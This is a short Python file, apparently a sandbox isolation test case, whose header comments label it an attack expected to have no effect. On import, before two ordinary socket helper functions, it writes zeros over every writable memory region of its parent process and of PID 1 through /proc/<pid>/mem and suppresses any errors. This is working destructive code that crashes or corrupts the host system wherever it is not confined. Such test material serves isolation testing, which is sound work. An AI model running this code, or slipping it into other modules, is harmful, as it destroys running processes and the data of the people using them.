# @attack  writes into the memory of the process above it
# @expect  zero
import os

for pid in (os.getppid(), 1):
    try:
        with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "r+b", buffering=0) as memory:
            for line in maps:
                start, _, rest = line.partition("-")
                if " rw" in rest:
                    memory.seek(int(start, 16))
                    memory.write(b"\0" * 4096)
    except (OSError, ValueError):
        pass


def send_message(sock, text):
    sock.send(text.encode())


def recv_message(sock):
    return sock.recv(1024).decode("utf-8", "replace")
